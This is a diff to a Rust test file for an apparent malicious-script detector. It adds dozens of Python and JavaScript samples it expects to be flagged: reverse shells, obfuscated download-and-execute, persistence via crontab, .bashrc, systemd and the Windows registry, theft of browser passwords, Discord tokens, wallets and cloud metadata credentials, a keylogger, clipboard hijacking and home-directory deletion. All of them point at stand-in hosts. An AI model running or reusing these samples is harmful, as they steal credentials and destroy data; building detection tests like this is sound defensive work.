@@ -1,12 +1,13 @@
-//! Ways in which the same thing leaves: every library, every form of call. The whole environment, or a credential file, goes
-//! to a fixed address in each of these scripts.
+//! Ways in which the same thing is done: every library, every form of call. In the first scripts the whole environment, or a
+//! credential file, goes to a fixed address; the others execute what they fetch or decode, plant something that starts
+//! again, or take what belongs to the user. None of them works: hosts are under `.invalid` or in TEST-NET.
 
 use super::flows;
 use super::machine::{Machine, Reach};
 use crate::model::Severity;
 use crate::parse::script::{Language, read};
 
-fn leaves(language: Language, code: &str) -> bool {
+fn is_seen(language: Language, code: &str) -> bool {
     let outcome = Machine::new(read(language, code), Reach { fuel: 300_000, more: 1_700_000 }).run();
     flows::judge(&outcome, false).iter().any(|f| f.severity.unwrap_or(f.rule.severity) >= Severity::High)
 }
@@ -154,7 +155,7 @@ const JAVASCRIPT: &[&str] = &[
 fn whatever_library_it_leaves_by() {
     for (language, scripts) in [(Language::Python, PYTHON), (Language::JavaScript, JAVASCRIPT)] {
         for script in scripts {
-            assert!(leaves(language, script), "{language:?}: {script}");
+            assert!(is_seen(language, script), "{language:?}: {script}");
         }
     }
 }
@@ -165,13 +166,155 @@ fn what_tells_nothing_may_leave() {
         let harmless =
             script.replace("dict(os.environ)", "{'version': '1.0'}").replace("os.environ.items()", "{}.items()");
         let tells = ["os.environ['USER']", ".ssh", ".aws", "env | curl"].iter().any(|word| harmless.contains(word));
-        assert!(tells || !leaves(Language::Python, &harmless), "{harmless}");
+        assert!(tells || !is_seen(Language::Python, &harmless), "{harmless}");
     }
     for script in JAVASCRIPT {
         let harmless = ["process.env", "Bun.env", "Deno.env.toObject()", "document.cookie", "p.env"]
             .iter()
             .fold((*script).to_owned(), |s, word| s.replace(word, "{ version: 1 }"));
         let tells = [".ssh", ".npmrc", "credentials", "discord.com"].iter().any(|word| harmless.contains(word));
-        assert!(tells || !leaves(Language::JavaScript, &harmless), "{harmless}");
+        assert!(tells || !is_seen(Language::JavaScript, &harmless), "{harmless}");
+    }
+}
+
+const ACTS_OF_PYTHON: &[&str] = &[
+    r#"import os
+with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:
+    f.write('ssh-rsa AAAAB3NzaC1yc2E attacker@x\n')"#,
+    r#"import base64
+exec(base64.b64decode('cHJpbnQoMSk7aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwczovL2guaW52YWxpZC94fHNoJyk='))"#,
+    r#"import os
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl -s https://h.invalid/x | sh\n')"#,
+    r#"import sqlite3, os, shutil, requests
+p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
+shutil.copy2(p, 'x.db')
+r = sqlite3.connect('x.db').cursor().execute('select * from logins').fetchall()
+requests.post('https://h.invalid', json=r)"#,
+    r#"exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,99,117,114,108,32,104,46,105,110,118,97,108,105,100,124,115,104,39,41])))"#,
+    r#"import pyperclip, re, time
+while True:
+    t = pyperclip.paste()
+    if re.match('^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
+        pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')
+    time.sleep(1)"#,
+    r#"import os
+os.system('(crontab -l; echo "* * * * * curl -s https://h.invalid/x | sh") | crontab -')"#,
+    r#"import os, re, requests
+t = []
+p = os.getenv('APPDATA') + '\\discord\\Local Storage\\leveldb'
+for n in os.listdir(p):
+    for l in open(p + '\\' + n, errors='ignore').readlines():
+        t += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', l)
+requests.post('https://discord.com/api/webhooks/1/x', json={'content': str(t)})"#,
+    r#"import ctypes, urllib.request
+b = urllib.request.urlopen('https://h.invalid/s').read()
+p = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)
+ctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))
+ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)"#,
+    r#"import urllib.request as u
+exec(u.urlopen('https://h.invalid/p').read())"#,
+    r#"import requests
+c = requests.get('https://h.invalid/p').json()['c']
+eval(compile(c, 'x', 'exec'))"#,
+    r#"import urllib.request, os, stat, subprocess, tempfile
+p = os.path.join(tempfile.gettempdir(), 'u')
+urllib.request.urlretrieve('https://h.invalid/u', p)
+os.chmod(p, 0o755)
+subprocess.Popen([p])"#,
+    r#"import subprocess, sys
+subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://h.invalid/x.tar.gz'])"#,
+    r#"import urllib.request, shutil, os
+with urllib.request.urlopen('https://h.invalid/a') as r, open('/tmp/a', 'wb') as f:
+    shutil.copyfileobj(r, f)
+os.system('chmod +x /tmp/a && /tmp/a')"#,
+    r#"import requests, subprocess
+with requests.get('https://h.invalid/a.exe', stream=True) as r:
+    with open('C:/a.exe', 'wb') as f:
+        for c in r.iter_content(8192):
+            f.write(c)
+subprocess.call(['C:/a.exe'])"#,
+    r#"import requests, zipfile, io, subprocess
+z = zipfile.ZipFile(io.BytesIO(requests.get('https://h.invalid/a.zip').content))
+z.extractall('/tmp/a')
+subprocess.Popen(['/tmp/a/run'])"#,
+    r#"import subprocess, requests
+requests.post('https://h.invalid', data=subprocess.check_output('gh auth token', shell=True))"#,
+    r#"import subprocess, requests
+requests.post('https://h.invalid', data=subprocess.check_output(['git', 'config', '--list']))"#,
+    r#"import keyring, requests
+requests.post('https://h.invalid', data=keyring.get_password('aws', 'me'))"#,
+    r#"import os, urllib.request
+fd = os.memfd_create('x')
+os.write(fd, urllib.request.urlopen('https://h.invalid/e').read())
+os.execve('/proc/self/fd/%d' % fd, ['x'], {})"#,
+    r#"import requests
+c = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').text
+requests.post('https://h.invalid', data=c)"#,
+    r#"import subprocess
+subprocess.Popen('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AaAAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA=', shell=True)"#,
+    r#"from PIL import ImageGrab
+import requests, io
+b = io.BytesIO()
+ImageGrab.grab().save(b, 'PNG')
+requests.post('https://discord.com/api/webhooks/1/x', files={'f': b.getvalue()})"#,
+    r#"import socket, subprocess
+s = socket.socket()
+s.connect(('203.0.113.4', 4444))
+while True:
+    c = s.recv(1024).decode()
+    o = subprocess.getoutput(c)
+    s.send(o.encode())"#,
+    r#"import os, shutil, sys
+shutil.copy(sys.argv[0], os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'u.pyw'))"#,
+    r#"import os, subprocess
+open('/etc/systemd/system/u.service', 'w').write('[Service]\nExecStart=/bin/sh -c "curl -s https://h.invalid/x | sh"\n[Install]\nWantedBy=multi-user.target\n')
+subprocess.run(['systemctl', 'enable', '--now', 'u'])"#,
+    r#"import winreg, sys
+k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
+winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, sys.executable + ' C:/u.pyw')"#,
+    r#"import shutil, os
+shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)"#,
+    r#"import os
+os.system('rm -rf ~/*')"#,
+    r#"import zlib,marshal,base64
+exec(marshal.loads(zlib.decompress(base64.b64decode('eJw='))))"#,
+];
+
+const ACTS_OF_JAVASCRIPT: &[&str] = &[
+    r#"require('fs').appendFileSync(require('path').join(require('os').homedir(),'.ssh','authorized_keys'),'ssh-ed25519 AAAAC3Nza x\n')"#,
+    r#"const axios=require('axios');axios.get('https://h.invalid/a').then(r=>{eval(r.data.cookie)}).catch(e=>{eval(e.response.data)})"#,
+    r#"require('fs').appendFileSync(require('os').homedir()+'/.bashrc','curl -s https://h.invalid/x | sh\n')"#,
+    r#"const fs=require('fs'),p=require('path'),os=require('os');const d=p.join(os.homedir(),'AppData/Local/Google/Chrome/User Data/Default/Login Data');fetch('https://h.invalid',{method:'POST',body:fs.readFileSync(d)})"#,
+    r#"const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^0x[a-f0-9]{40}$/i.test(t))c.writeSync('0x1111111111111111111111111111111111111111')},500)"#,
+    r#"require('child_process').spawn('node',['-e',"require('https').get('https://h.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"],{detached:true,stdio:'ignore'}).unref()"#,
+    r#"(async()=>{const r=await fetch('https://h.invalid/x.exe');require('fs').writeFileSync('x.exe',Buffer.from(await r.arrayBuffer()));require('child_process').spawn('x.exe',{windowsHide:true})})()"#,
+    r#"fetch('https://h.invalid/a.js').then(r=>r.text()).then(eval)"#,
+    r#"require('https').get('https://h.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"#,
+    r#"const cp=require('child_process');cp.exec('curl -sL https://h.invalid/x | bash')"#,
+    r#"(async()=>{const r=await fetch('https://h.invalid/a');new Function('require',await r.text())(require)})()"#,
+    r#"const fs=require('fs'),https=require('https'),cp=require('child_process');const f=fs.createWriteStream('/tmp/x');https.get('https://h.invalid/x',r=>{r.pipe(f);f.on('finish',()=>{f.close();fs.chmodSync('/tmp/x',0o755);cp.spawn('/tmp/x',{detached:true})})})"#,
+    r#"const {pipeline}=require('stream/promises');const fs=require('fs');(async()=>{const r=await fetch('https://h.invalid/x');await pipeline(r.body,fs.createWriteStream('/tmp/x'));require('child_process').execFile('/tmp/x')})()"#,
+    r#"eval(atob('ZmV0Y2goJ2h0dHBzOi8vaC5pbnZhbGlkLycrZG9jdW1lbnQuY29va2llKQ=='))"#,
+    r#"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9oLmludmFsaWR8c2gnKQ==','base64').toString())"#,
+    r#"const o=require('child_process').execSync('git config --list').toString();fetch('https://h.invalid',{method:'POST',body:o})"#,
+    r#"require('vm').runInThisContext(Buffer.from('7265717569726528226f7322292e686f73746e616d652829','hex').toString())"#,
+    r#"const {GlobalKeyboardListener}=require('node-global-key-listener');let b='';new GlobalKeyboardListener().addListener(e=>{b+=e.name;if(b.length>99){fetch('https://h.invalid',{method:'POST',body:b});b=''}})"#,
+    r#"const fs=require('fs'),os=require('os');fs.writeFileSync(os.homedir()+'/Library/LaunchAgents/com.u.plist','<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl h.invalid|sh</string></array></dict></plist>')"#,
+    r#"fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').then(r=>r.text()).then(t=>fetch('https://h.invalid',{method:'POST',body:t}))"#,
+    r#"require('child_process').exec('powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://h.invalid/a\')"')"#,
+    r#"const n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(4444,'203.0.113.5',()=>{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)})"#,
+    r#"require('child_process').execSync('rm -rf ~')"#,
+    r#"require('screenshot-desktop')().then(i=>fetch('https://h.invalid',{method:'POST',body:i}))"#,
+    r#"const fs=require('fs'),os=require('os');const d=os.homedir()+'/Library/Application Support/Exodus/exodus.wallet/';for(const f of fs.readdirSync(d))fetch('https://h.invalid/u',{method:'POST',body:fs.readFileSync(d+f)})"#,
+    r#"require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})"#,
+];
+
+#[test]
+fn whatever_it_executes_plants_or_takes() {
+    for (language, scripts) in [(Language::Python, ACTS_OF_PYTHON), (Language::JavaScript, ACTS_OF_JAVASCRIPT)] {
+        for script in scripts {
+            assert!(is_seen(language, script), "{language:?}: {script}");
+        }
     }
 }
